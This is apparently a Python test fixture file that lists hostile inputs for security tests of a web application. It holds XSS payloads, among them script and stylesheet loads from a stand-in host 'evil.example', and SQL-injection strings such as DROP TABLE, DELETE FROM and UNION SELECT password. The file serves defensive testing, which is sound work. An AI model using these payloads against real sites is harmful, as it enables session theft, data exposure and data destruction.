"""Hostile input shared by every test that shows user text back: forum, profiles, matrix, events, search, file names.

``XSS_PAYLOADS`` are classic script-injection strings (tags, event handlers,
``javascript:`` and ``data:`` URLs, broken and nested markup).  ``SQL_ISH``
are strings that would hurt a query built by string formatting.
"""

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<a href=\" javascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p onmouseover=\"alert(1)\">hover</p>",
    "<a href=\"http://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<base href=\"http://evil.example/\">",
    "<details open ontoggle=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<a href=\"http://ok.example\" style=\"position:fixed;top:0\">overlay</a>",
]

# Payloads short enough for a one-line field (titles, names) and free of "/" (so they can be file names too).
SHORT_PAYLOADS = [p for p in XSS_PAYLOADS if len(p) <= 60 and "/" not in p]

SQL_ISH = [
    "' OR '1'='1",
    "'; DROP TABLE directory_member; --",
    "\"; DELETE FROM forum_thread WHERE 1=1; --",
    "1 UNION SELECT password FROM portal_user",
    "%' AND 1=0 UNION SELECT NULL--",
]
